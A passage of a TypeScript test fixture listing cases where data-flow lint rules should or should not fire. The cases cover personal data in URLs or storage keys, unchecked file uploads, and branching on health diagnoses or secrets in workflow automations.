              bucket: 'b',
              operation: 'write',
              key: '{{ input.body.email }}.json',
              content: 'x',
            }),
          ],
          ['hook > s3'],
        ),
      ],
    ],
    silent: [
      ['body', flow([signedHook(), post('https://api.example.com/users', '{ "m": "{{ input.body.email }}" }')], ['hook > call'])],
      [
        'hash in path',
        flow(
          [signedHook(), mask('body.email', 'hash'), call('https://api.example.com/users/{{ input.body.email }}')],
          ['hook > mask', 'mask > call'],
        ),
      ],
      ['number', flow([signedHook(), call('https://api.example.com/orders?min={{ input.body.amount }}')], ['hook > call'])],
    ],
  },
  DF019: {
    fires: [
      [
        'file to disk',
        flow(
          [
            openHook([{ name: 'doc', type: 'file' }]),
            step('w', 'file-write', { path: '/d/x.pdf', format: 'base64', content: '{{ input.body.doc }}' }),
          ],
          ['hook > w'],
        ),
      ],
      [
        'check on one way',
        flow(
          [
            openHook([
              { name: 'doc', type: 'file' },
              { name: 'amount', type: 'number' },
            ]),
            iff(),
            step('check', 'check-file', { file: 'body.doc' }),
            post('https://api.example.com/x', '{ "d": "{{ input.body.doc }}" }'),
          ],
          ['hook > if', 'if.true > check', 'check.passed > call', 'if.false > call'],
        ),
      ],
    ],
    silent: [
      [
        'checked',
        flow(
          [
            openHook([{ name: 'doc', type: 'file' }]),
            step('check', 'check-file', { file: 'body.doc' }),
            post('https://api.example.com/x', '{ "d": "{{ input.body.doc }}" }'),
          ],
          ['hook > check', 'check.passed > call'],
        ),
      ],
      [
        'not passed on',
        flow(
          [
            openHook([
              { name: 'doc', type: 'file' },
              { name: 'n', type: 'number' },
            ]),
            post('https://api.example.com/x', '{ "d": "{{ input.body.n }}" }'),
          ],
          ['hook > call'],
        ),
      ],
    ],
  },
  DF020: {
    fires: [
      [
        'switch on diagnosis',
        flow(
          [
            openHook(health),
            step('s', 'switch', {
              cases: [
                {
                  id: 'one',
                  title: '',
                  combine: 'all',
                  conditions: [{ left: '{{ input.body.patient.diagnosis }}', operator: 'isNotEmpty', right: '' }],
                },
              ],
              fallback: true,
            }),
            mail('x@example.org', 'Hello'),
          ],
          ['hook > s', 's.one > mail'],
        ),
      ],
      [
        'filter on secret',
        flow([openHook(secretHook), step('f', 'filter-items', cond('{{ input.body.key }}')), slack('hi')], ['hook > f', 'f > slack']),
      ],
    ],
    silent: [
      ['branch on number', flow([openHook(), iff(), mail('x@example.org', 'Hello')], ['hook > if', 'if.true > mail'])],
      ['nothing visible', flow([openHook(health), iff('{{ input.body.patient.diagnosis }}'), noop()], ['hook > if', 'if.true > noop'])],
    ],
  },
};
function sqlC(): FlowNode {
  return sql('SELECT margin FROM deals', { columns: [{ name: 'margin', label: 'confidential' }] });
}
function sqlBank(): FlowNode {
  return sql('SELECT iban FROM accounts', { columns: [{ name: 'iban' }] });
}
